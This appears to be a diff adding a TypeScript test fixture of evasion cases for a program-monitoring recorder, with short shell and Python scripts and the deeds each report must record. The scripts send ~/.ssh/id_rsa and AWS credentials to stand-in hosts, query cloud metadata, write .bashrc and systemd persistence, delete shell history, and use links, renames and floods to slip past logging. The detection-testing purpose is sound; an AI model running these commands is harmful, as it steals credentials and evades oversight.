@@ -1,0 +1,109 @@
+/**
+ * A program that tries to keep a deed out of its report: what the report must have, and of which lists it must say that
+ * they are incomplete.
+ */
+export type Evasion = {
+  name: string;
+  path: string;
+  text: string;
+  deeds: string[];
+  programs: RegExp[];
+  beyond: string[];
+};
+
+type Expected = Partial<Pick<Evasion, "deeds" | "programs" | "beyond">>;
+
+function shell(name: string, expected: Expected, ...lines: string[]): Evasion {
+  const text = `#!/bin/sh\ncd\n${lines.join("\n")}\n`;
+  return { name, path: "a.sh", text, ...{ deeds: [], programs: [], beyond: [] }, ...expected };
+}
+
+function python(name: string, expected: Expected, ...lines: string[]): Evasion {
+  const text = `import os,socket,sys,threading,base64,time\nos.chdir(os.environ['HOME'])\n${lines.join("\n")}\n`;
+  return { name, path: "a.py", text, ...{ deeds: [], programs: [], beyond: [] }, ...expected };
+}
+
+export const EVASIONS: Evasion[] = [
+  shell(
+    "renames the folder of a key through a link",
+    { deeds: ["read_canary ~/.ssh/id_rsa"] },
+    ...['ln -s "$(pwd)" /tmp/l', "mv -T /tmp/l/.ssh /tmp/l/old", "cat old/id_rsa > /dev/null"],
+  ),
+  shell(
+    "moves a file to a start-up file through a link",
+    { deeds: ["wrote_outside /home/dev/.bashrc"] },
+    ...['ln -s "$(pwd)" /tmp/l', "echo evil > work.txt", "mv -T work.txt /tmp/l/.bashrc"],
+  ),
+  shell(
+    "renames the folder above a secret",
+    { deeds: ["read_canary ~/.config/gcloud/application_default_credentials.json"] },
+    "mv .config cfg",
+    "cat cfg/gcloud/* > /dev/null",
+  ),
+  shell(
+    "removes history through its process",
+    { deeds: ["wrote_outside /home/dev/.bash_history"] },
+    "rm /proc/self/root/home/dev/.bash_history",
+  ),
+  python(
+    "renames a folder by descriptor",
+    { deeds: ["read_canary ~/.aws/credentials"] },
+    "d=os.open('.',os.O_RDONLY)",
+    "os.rename('.aws','a',src_dir_fd=d,dst_dir_fd=d)",
+    "open('a/credentials').read()",
+  ),
+  python(
+    "starts a program from a thread",
+    { programs: [/^\/usr\/bin\/curl .*hidden\.example/] },
+    "t=threading.Thread(target=lambda: os.execv('/usr/bin/curl',['curl','-s','http://hidden.example/x']))",
+    "t.start()",
+    "t.join()",
+  ),
+  shell(
+    "names a program like a known tool",
+    { deeds: ["read_canary ~/.npmrc"] },
+    "cp /bin/cat /tmp/npm",
+    "/tmp/npm .npmrc > /dev/null",
+  ),
+  shell(
+    "writes many files first",
+    { deeds: ["wrote_outside /home/dev/.bashrc", "wrote_outside /home/dev/.config/systemd/user/evil.service"] },
+    ...["i=0; while [ $i -lt 210 ]; do : > /tmp/f$i; i=$((i+1)); done", "echo evil >> .bashrc"],
+    "mkdir -p .config/systemd/user; echo x > .config/systemd/user/evil.service",
+  ),
+  shell(
+    "asks many addresses first",
+    { deeds: ["asked_metadata 169.254.169.254"], beyond: ["addresses"] },
+    `python3 -c '
+import socket
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
+for i in range(250): s.sendto(b"x",("203.0.113.%d"%i,7000))
+s.sendto(b"x",("169.254.169.254",7000))'`,
+  ),
+  shell(
+    "sends much to the same host first",
+    { deeds: ["sent_canary ~/.ssh/id_rsa to stats.example:80"] },
+    "for i in 1 2 3 4 5; do head -c 240000 /dev/zero | curl -s --data-binary @- http://stats.example/u > /dev/null; done",
+    "curl -s --data-binary @.ssh/id_rsa http://stats.example/u > /dev/null",
+  ),
+  shell(
+    "sends more than the recorder keeps of a connection",
+    { beyond: ["network"] },
+    "{ head -c 400000 /dev/zero; cat .ssh/id_rsa; } | curl -s --data-binary @- http://stats.example/u > /dev/null",
+  ),
+  python(
+    "holds more connections than the recorder has",
+    { beyond: ["network"] },
+    "held=[socket.create_connection(('1.2.3.4',80),2) for i in range(210)]",
+    "time.sleep(.5)",
+    "s=socket.create_connection(('5.6.7.8',443),2)",
+    "try: s.sendall(open('.aws/credentials').read().encode())",
+    "except OSError: pass",
+  ),
+  python(
+    "sends more datagrams than are kept",
+    { beyond: ["payloads"] },
+    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
+    "for i in range(600): s.sendto(b'x%d'%i,('203.0.113.8',7000))",
+  ),
+];
